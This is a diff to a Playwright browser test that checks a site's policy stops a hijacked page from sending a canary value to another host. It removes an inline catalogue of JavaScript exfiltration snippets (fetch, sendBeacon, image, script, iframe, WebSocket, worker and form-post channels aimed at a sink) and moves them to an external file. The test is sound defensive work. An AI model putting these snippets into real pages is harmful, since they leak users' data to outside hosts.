@@ -6,7 +6,7 @@ import pytest
 from playwright.sync_api import Page, expect
 
 from tests.browser.checker import SHOP, Answers, Checker
-from tests.browser.conftest import Open, Serve
+from tests.browser.conftest import ROOT, Open, Serve
 from tests.served import Host
 
 CANARY = "731946285"
@@ -27,34 +27,7 @@ def _element(name: str, keys: str, parent: str = "head") -> str:
 
 
 CARRYING = "sink + '?' + canary"
-WAYS = {
-    "fetch": f"fetch({CARRYING}, {{mode: 'no-cors'}}).catch(() => 0)",
-    "beacon": "navigator.sendBeacon(sink, canary)",
-    "image": f"new Image().src = {CARRYING}",
-    "style": _element("link", f"rel: 'stylesheet', href: {CARRYING}"),
-    "script": _element("script", f"src: {CARRYING}"),
-    "prefetch": _element("link", f"rel: 'prefetch', href: {CARRYING}"),
-    "form": """(() => {
-      const form = document.createElement('form');
-      Object.assign(form, {action: sink, method: 'post', target: 'nowhere'});
-      const field = document.createElement('input');
-      form.append(Object.assign(field, {name: 'a', value: canary}));
-      document.body.append(form);
-      form.submit();
-    })()""",
-    "socket": """(() => {
-      try { new WebSocket(sink.replace('http', 'ws') + '?' + canary) } catch {}
-    })()""",
-    "worker": "(() => { try { new Worker(sink + '?' + canary) } catch {} })()",
-    "frame": _element("iframe", f"src: {CARRYING}", "body"),
-    "worker fetch": """(() => {
-      const target = JSON.stringify(sink + '?' + canary);
-      const code = `fetch(${target}, {mode: 'no-cors'}).catch(() => 0)`;
-      const script = new Blob([code], {type: 'text/javascript'});
-      new Worker(URL.createObjectURL(script), {type: 'module'});
-    })()""",
-}
-"""How a page taken over could try to send an answer; the page's policy has to stop each."""
+WAYS_OUT = (ROOT / "tests" / "web" / "ways_out.js").read_text("utf-8")
 
 
 def said(host: Host) -> str:
@@ -98,8 +71,7 @@ def test_a_page_taken_over_cannot_send_to_another_host(
 ) -> None:
     page = open_page(f"{host.address}zh/check/")
     to_the_result(page)
-    for way in WAYS.values():
-        page.evaluate(f"([sink, canary]) => {{ {way} }}", [sink.address, CANARY])
+    assert page.evaluate(WAYS_OUT, [sink.address, CANARY]) == 12
     page.wait_for_timeout(1_500)
     assert sink.asked == []
     assert CANARY not in said(host)
